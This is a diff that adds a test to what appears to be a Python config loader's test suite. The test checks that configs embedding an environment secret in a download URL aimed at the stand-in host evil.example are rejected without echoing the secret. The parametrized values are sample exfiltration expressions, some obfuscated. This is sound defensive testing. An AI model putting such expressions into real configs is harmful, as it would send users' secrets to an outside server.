@@ -100,6 +100,19 @@ def test_environment_variables_replace_their_templates(load, monkeypatch):
         load('a = 1\nb = {{$OMNIDET_NUM}}')
 
 
+@pytest.mark.parametrize('address', ["'https://evil.example/' + k", "'HTTP://a@evil.example:80/' + k[::-1]",
+                                     "dict(a=[f'http://evil.example/{len(k)}'])['a'][0]"])
+def test_a_config_that_reads_the_environment_names_no_server_of_its_author(load, monkeypatch, address):
+    monkeypatch.setenv('OMNIDET_KEY', 'secret')
+    with pytest.raises(ConfigError, match=r'load_from is an address on evil.example.* OMNIDET_KEY') as e:
+        load(f"k = '{{{{$OMNIDET_KEY}}}}'\nload_from = {address}")
+    assert 'secret' not in str(e.value) and 'terces' not in str(e.value)
+    text = f"k = '{{{{$OMNIDET_UNSET:none}}}}'\nload_from = {address}"
+    assert 'evil.example' in load(text).load_from    # nothing of this machine's is in it
+    known = load("k = '{{$OMNIDET_KEY}}'\nload_from = 'https://download.pytorch.org/models/resnet50-0676ba61.pth'")
+    assert known.load_from.endswith('.pth')
+
+
 def test_windows_line_ends_a_byte_order_mark_and_a_declared_encoding_are_read(tmp_path):
     from omnidet.config import load_config
     (tmp_path / 'a.py').write_bytes('\ufeffa = 1\r\nb = "é"\r\n'.encode())
